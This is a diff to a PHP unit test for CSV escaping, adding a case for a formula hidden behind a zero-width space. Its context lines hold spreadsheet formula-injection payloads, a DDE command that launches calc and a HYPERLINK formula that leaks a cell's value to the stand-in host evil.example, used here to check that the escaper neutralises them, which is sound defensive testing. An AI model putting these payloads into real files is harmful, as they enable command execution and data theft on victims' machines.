@@ -27,6 +27,7 @@ final class CsvTest extends TestCase
         yield 'quotes' => ['the "Countess"', '"the ""Countess"""'];
         yield 'two lines' => ["a\nb", "\"a\nb\""];
         yield 'spaces around' => [' a ', '" a "'];
+        yield 'a formula behind characters that show nothing' => ["\u{200B}=1+1", "'\u{200B}=1+1"];
         yield 'a formula' => ['=1+1', "'=1+1"];
         yield 'a command' => ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"];
         yield 'a formula that leaks' => ['=HYPERLINK("http://evil.example?x="&A1,"ok")', '"\'=HYPERLINK(""http://evil.example?x=""&A1,""ok"")"'];
